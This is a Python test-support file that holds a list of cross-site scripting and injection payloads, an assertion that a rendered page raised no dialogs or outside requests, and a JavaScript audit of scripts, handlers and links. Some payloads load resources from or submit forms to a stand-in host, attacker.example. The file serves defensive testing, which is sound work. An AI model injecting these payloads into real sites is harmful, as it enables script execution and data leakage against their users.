"""Texts that attack pages, and what shows that a page did not fall for them."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

    from helpers.browser import Seen

PAYLOADS = (
    "<script>alert('P0')</script>",
    "</script><script>alert('P1')</script>",
    "</SCRIPT ><script>alert('P2')</script>",
    '"><img src=x onerror=alert(3)>',
    "'><img src=x onerror=alert(4)>",
    "<img src=x onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(9)>",
    '<iframe srcdoc="<script>parent.alert(10)</script>">',
    "<a href=javascript:alert(11)>click</a>",
    "javascript:alert(12)",
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<math><mi xlink:href=javascript:alert(16)>x</mi></math>",
    "<base href=https://attacker.example/>",
    "<link rel=stylesheet href=https://attacker.example/p18.css>",
    "<style>@import 'https://attacker.example/p19.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/p20'>",
    "<form action=https://attacker.example/p21><button>go</button></form>",
    "<object data=https://attacker.example/p22></object>",
    "<embed src=https://attacker.example/p23>",
    "<!--<script>alert('P24')",
    "--><script>alert('P25')</script>",
    "]]><script>alert('P26')</script>",
    "</title><script>alert('P27')</script>",
    "</style><script>alert('P28')</script>",
    "</textarea></noscript><script>alert('P29')</script>",
    '" onmouseover="alert(30)" x="',
    "' autofocus onfocus='alert(31)' x='",
    "` onerror=`alert(32)`",
    "&lt;script&gt;alert('P33')&lt;/script&gt;",
    "&#60;img src=x onerror=alert(34)&#62;",
    "{{constructor.constructor('alert(35)')()}}",
    "${alert(36)} #{7*7} <%= 7*7 %> {% print(7*7) %}",
    "\u2028alert(37)\u2029//</script>",
    "\u202egnp.exe\u202c \u2066\u2069 \u200b\ufeff",
    "\x00<scr\x00ipt>alert(39)</scr\x00ipt>\x1b[31m",
    "+ADw-script+AD4-alert(40)+ADw-/script+AD4-",
    "<b onclick=alert(41)>%{x} <extra>%{customdata}</extra> <a href='https://attacker.example'>x</a>",
    "$\\href{javascript:alert(42)}{x}$",
    "__proto__",
    "\ud800<img src=x onerror=alert(44)>",
    "; --w: url(https://attacker.example/p45); } body { background: url(//attacker.example) }",
    "W" * 3000,
)


def assert_quiet(seen: Seen, path: Path) -> None:
    assert seen.dialogs == []
    assert seen.console == []
    assert seen.targets == []
    outside = [url for url in seen.requests if not url.startswith("data:image/png;base64,")]
    assert outside == [path.resolve().as_uri()]


AUDIT = """
(() => {
  const elements = [...document.querySelectorAll("*")];
  const attributes = elements.flatMap((e) =>
    [...e.attributes].map((a) => [e.tagName, a.name, a.value]));
  return JSON.stringify({
    scripts: [...document.scripts].map((s) => s.type + (s.src || "")),
    handlers: attributes.filter(([, name]) => name.toLowerCase().startsWith("on")),
    links: attributes.filter(([, name, value]) =>
      /^(href|src|srcdoc|action|data|xlink:href|formaction)$/i.test(name)
      && !/^#[a-z0-9-]+$/.test(value) && !value.startsWith("data:image/png;base64,")),
    foreign: elements.map((e) => e.tagName.toLowerCase()).filter((tag) =>
      /^(iframe|object|embed|base|link|form|video|audio|source|math|animate|template|b|extra)$/
        .test(tag)),
    outside: elements.filter((e) => e.namespaceURI === "http://www.w3.org/2000/svg")
      .filter((e) => e.tagName === "a").length,
    text: document.body.textContent,
    title: document.title,
  });
})()
"""
